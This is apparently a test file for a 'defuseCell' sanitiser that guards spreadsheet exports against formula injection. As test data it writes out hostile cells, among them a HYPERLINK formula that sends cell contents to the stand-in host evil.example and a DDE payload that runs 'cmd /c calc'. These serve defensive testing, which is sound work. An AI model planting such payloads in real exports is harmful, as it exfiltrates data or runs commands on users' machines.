import { assert, constantFrom, property, string } from "fast-check";
import { expect, test } from "vitest";
import { defuseCell } from "./defuse-cell.ts";

test.each([
  ["=1+1", "'=1+1"],
  ["+1", "'+1"],
  ["-1", "'-1"],
  ["@SUM(A1)", "'@SUM(A1)"],
  ["\t=1", "'\t'=1"],
  ["\r=1", "'\r'=1"],
  ["\ttext", "'\ttext"],
  ["  =1+1", "  '=1+1"],
  ["＝1+1", "'＝1+1"],
  ['=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'],
])("a cell that a spreadsheet would execute is text: %j", (attack, harmless) => {
  expect(defuseCell(attack)).toBe(harmless);
});

test("a formula behind a semicolon, a line's end or a quote is text too, where other locales begin a cell", () => {
  expect(defuseCell("Mozilla;=cmd|'/c calc'!A0")).toBe("Mozilla;'=cmd|'/c calc'!A0");
  expect(defuseCell('a";"=1')).toBe('a";"\'=1');
  expect(defuseCell("a\n=1")).toBe("a\n'=1");
});

test("ordinary texts stay as they are, or an export would tell other names than the log", () => {
  const texts = [
    "Anna Müller",
    "anna+work@example.com",
    "203.0.113.9",
    "2025-01-01T00:00:00.000Z",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/150.0.0.0",
    '{"version":2,"changed":["headers"]}',
    "",
  ];
  for (const text of texts) expect(defuseCell(text)).toBe(text);
});

test("no text leaves any way in, whatever it is made of", () => {
  const pieces = constantFrom(..."=+-@＝\t\r\n;,|\"' aé".split(""));
  assert(
    property(string({ unit: pieces, maxLength: 12 }), (text) => {
      const defused = defuseCell(text);
      expect(defused).not.toMatch(/^[\t\r\n]/u);
      for (const cell of defused.split(/[\t\r\n;,|"]/u)) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
      expect(defused.replaceAll("'", "")).toBe(text.replaceAll("'", ""));
    }),
    { numRuns: 2_000 },
  );
});
